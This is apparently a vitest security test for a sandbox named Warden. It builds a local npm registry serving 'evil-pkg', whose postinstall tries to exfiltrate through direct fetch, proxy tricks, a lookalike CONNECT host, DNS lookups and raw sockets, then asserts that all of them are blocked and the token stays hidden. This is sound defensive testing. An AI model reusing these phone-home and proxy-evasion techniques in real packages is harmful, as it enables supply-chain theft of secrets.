import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Canaries, createAttackTally, createCanaries, runHostile, shellTurn } from './harness.ts';

/** Where the registry appears inside the sandbox: the relay, then Warden's credentialed upstream. */
const REGISTRY_INSIDE = 'http://127.0.0.1:3128/_upstream/npm/';

/**
 * A one-package npm registry on 127.0.0.1: `evil-pkg`, whose postinstall tries every way home it can
 * think of and prints what happened to each attempt.
 */
async function startRegistry(
  canaries: Canaries,
): Promise<{ server: Server; url: string; hits: string[]; authorizations: string[] }> {
  const root = path.join(canaries.dir, 'registry');
  const source = path.join(root, 'package');
  mkdirSync(source, { recursive: true });
  const home = `http://127.0.0.1:${canaries.httpPort}/stolen`;
  const attempt = (label: string, code: string) =>
    `await (async () => { ${code} })().then(() => console.log('PHONED ${label}'), (e) => console.log('blocked ${label}: ' + (e.cause?.code || e.code || e.message)));`;
  writeFileSync(
    path.join(source, 'phone-home.mjs'),
    [
      "import net from 'node:net';",
      "import dns from 'node:dns/promises';",
      "const check = async (response) => { if (!response.ok) throw new Error('HTTP ' + response.status); };",
      attempt('direct', `await check(await fetch('${home}'));`),
      "import http from 'node:http';",
      // Straight at the proxy, in absolute form, for the host's loopback as a literal and as a number.
      ...['127.0.0.1', '2130706433'].map((literal) =>
        attempt(
          `via-proxy-${literal}`,
          `await new Promise((resolve, reject) => { const target = 'http://${literal}:${canaries.httpPort}/x'; http.get({ host: '127.0.0.1', port: 3128, path: target, headers: { host: '${literal}:${canaries.httpPort}' } }, (response) => { response.resume(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject); });`,
        ),
      ),
      // Named targets straight at the proxy too: whether the sandbox's node honours HTTP_PROXY for
      // fetch depends on its version (the host's), and an attacker would not rely on it.
      attempt(
        'via-proxy-name',
        `await new Promise((resolve, reject) => { http.get({ host: '127.0.0.1', port: 3128, path: 'http://phone.home.example:${canaries.httpPort}/x', headers: { host: 'phone.home.example:${canaries.httpPort}' } }, (response) => { response.resume(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject); });`,
      ),
      attempt(
        'wildcard-trap',
        "await new Promise((resolve, reject) => { http.request({ host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'registry.npmjs.org.evil.example:443' }).on('connect', (response, socket) => { socket.destroy(); response.statusCode === 200 ? resolve() : reject(new Error('HTTP ' + response.statusCode)); }).on('error', reject).end(); });",
      ),
      attempt('dns', "await dns.lookup('secret-data.phone.home.example');"),
      attempt(
        'raw-socket',
        `await new Promise((resolve, reject) => { const s = net.connect(${canaries.httpPort}, '127.0.0.1', () => { s.end(); resolve(); }); s.on('error', reject); });`,
      ),
      "console.log('postinstall ran');",
    ].join('\n'),
  );
  writeFileSync(
    path.join(source, 'package.json'),
    JSON.stringify({ name: 'evil-pkg', version: '1.0.0', scripts: { postinstall: 'node phone-home.mjs' } }),
  );
  const tarball = path.join(root, 'evil-pkg-1.0.0.tgz');
  execFileSync('tar', ['-czf', tarball, '-C', root, 'package']);
  const bytes = readFileSync(tarball);
  const integrity = `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
  const shasum = createHash('sha1').update(bytes).digest('hex');
  const packument = {
    name: 'evil-pkg',
    'dist-tags': { latest: '1.0.0' },
    versions: {
      '1.0.0': {
        name: 'evil-pkg',
        version: '1.0.0',
        scripts: { postinstall: 'node phone-home.mjs' },
        dist: { tarball: `${REGISTRY_INSIDE}evil-pkg/-/evil-pkg-1.0.0.tgz`, integrity, shasum },
      },
    },
  };
  const hits: string[] = [];
  const authorizations: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    authorizations.push(request.headers.authorization ?? '');
    if (request.url === '/evil-pkg') {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify(packument));
    } else if (request.url === '/evil-pkg/-/evil-pkg-1.0.0.tgz') {
      response.setHeader('content-type', 'application/octet-stream');
      response.end(bytes);
    } else {
      response.statusCode = 404;
      response.end('{}');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, hits, authorizations };
}

describe('hostile: a dependency that phones home while the npm registry is allowed', () => {
  createAttackTally('npm-postinstall');
  let canaries: Canaries;
  let registry: Awaited<ReturnType<typeof startRegistry>>;
  beforeAll(async () => {
    canaries = await createCanaries();
    registry = await startRegistry(canaries);
  });
  afterAll(async () => {
    await new Promise((resolve) => registry.server.close(resolve));
    await canaries.close();
  });

  it('installs the package through the proxy, yet its postinstall reaches nothing, and every attempt is journaled', async () => {
    const config = path.join(canaries.dir, 'egress.json');
    const homeConfig = readFileSync(path.join(canaries.home, 'config.yaml'), 'utf8');
    const bundle = JSON.parse(homeConfig.match(/bundle: (.*)$/m)![1]!) as string;
    writeFileSync(
      config,
      JSON.stringify({
        budget: { maxUsd: 1 },
        policy: { bundle },
        // What a postinstall can reach is the question here, so it must run: the package guard (which
        // would ask this registry itself and refuse the script) has its own suites.
        packages: { guard: false },
        sandbox: {
          egress: {
            groups: ['npm'],
            // The registry token is the host's canary secret: the sandbox must only ever see a placeholder.
            secrets: [{ name: 'NPM_TOKEN', fromEnv: 'WARDEN_CANARY_SECRET' }],
            upstreams: [
              { name: 'npm', url: registry.url, secret: 'NPM_TOKEN', urlEnv: ['npm_config_registry'] },
            ],
          },
        },
      }),
    );
    const outcome = await runHostile(
      canaries,
      'npm-postinstall',
      { 'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', private: true }) },
      [
        shellTurn(
          'npm install --no-audit --no-fund --foreground-scripts evil-pkg 2>&1; echo "npm exit $?"',
          'cat node_modules/evil-pkg/package.json',
          'echo "token=$NPM_TOKEN"',
        ),
      ],
      { args: ['--config', config] },
    );
    expect(outcome.code, outcome.stderr).toBe(0);
    const [install, installed, token] = outcome.outputs;
    // The registry was reached, through Warden's proxy, and the package is in place.
    expect(registry.hits).toEqual(
      expect.arrayContaining(['GET /evil-pkg', 'GET /evil-pkg/-/evil-pkg-1.0.0.tgz']),
    );
    expect(installed).toContain('"evil-pkg"');
    expect(install).toContain('postinstall ran');
    // Every way home failed, and the host's canaries heard nothing.
    for (const label of [
      'direct',
      'via-proxy-127.0.0.1',
      'via-proxy-2130706433',
      'via-proxy-name',
      'wildcard-trap',
      'dns',
      'raw-socket',
    ]) {
      expect(install).toContain(`blocked ${label}`);
    }
    expect(install).not.toContain('PHONED');
    expect(canaries.httpHits).toEqual([]);
    // The registry got the real token from the proxy; the sandbox, its outputs and the journal never did.
    expect(registry.authorizations).toContain(`Bearer ${canaries.secret}`);
    expect(token).toMatch(/token=\S+/);
    expect(JSON.stringify(outcome.events)).not.toContain(canaries.secret);
    expect(outcome.outputs.join('\n')).not.toContain(canaries.secret);
    expect(canaries.udpHits).toEqual([]);

    const connections = outcome.events.filter((event) => event.type === 'net-connect');
    expect(connections).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ decision: 'allow', reason: expect.stringContaining('upstream npm') }),
        expect.objectContaining({
          host: 'phone.home.example',
          decision: 'refuse',
          reason: 'not on the allow-list',
        }),
        expect.objectContaining({ host: 'registry.npmjs.org.evil.example', decision: 'refuse' }),
        expect.objectContaining({ host: '127.0.0.1', port: canaries.httpPort, decision: 'refuse' }),
      ]),
    );
  });
});
